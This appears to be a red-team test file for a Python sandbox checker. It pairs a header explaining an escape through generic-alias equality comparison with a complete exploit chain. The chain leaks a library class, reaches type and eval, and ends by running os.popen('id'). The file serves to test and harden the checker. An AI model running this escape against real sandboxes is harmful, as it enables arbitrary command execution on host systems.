# expect: reject unbound
# line: 34
# verified: reaches its goal under plain python3 (3.11) in a temp dir
# why: fourteenth red team (round 14a), family C: a generic alias holding a library class as an index hands it to the other operand's __eq__ when compared (its args tuples are compared) (the red team's program)
# Mechanism: rule unbound allows a library class as 'an index of a library generic anywhere' 
# (library_generic: 'no program code receives it'); the place walk returns true at the subscript and 
# never looks at what the generic alias is then used for. A generic alias compares equal by comparing 
# its args tuple with the other alias's args (GenericAlias ga_richcompare / typing 
# _GenericAlias.__eq__: origin == origin and args == args), so the tuple comparison runs C == g, 
# which (type.__eq__ returning NotImplemented) calls the program object's reflected __eq__(C). 
# Grab.__eq__ raises LookupError(other); e.args[0] is the library class as a clean value. Spelling: 
# collections.abc.Iterable[collections.Counter] != collections.abc.Iterable[Grab()] (!= compares the 
# args the same way).
# Goal reached: collections.Counter by value, then the builtin type by value (Counter.copy(P)), then 
# eval by value (the 11b end gadget), called: runs id.
# Checker: build/safe-exec-check --rules rules FILE exits 0 (accepted) at HEAD dc5a2f6
# No dunder name is given to a builtin at run time.
# Output seen under python3 (3.11), run in a fresh temp dir:
#   by value: <class 'type'>
#   by value: <built-in function eval>
#   uid=0(root) gid=0(root) groups=0(root)
import collections
import copy
import typing

class P:
    pass

class Grab:
    def __eq__(self, other):
        raise LookupError(other)

try:
    collections.abc.Iterable[collections.Counter] != collections.abc.Iterable[Grab()]
except Exception as e:
    K = e.args[0]
print("by value:", K)
T = K.copy(P)
print("by value:", T)
ev = copy.deepcopy(T(typing.List[int])(int, ("eval",), name="__builtins__"))
print("by value:", ev)
print(ev("__import__('os').popen('id').read()"), end="")
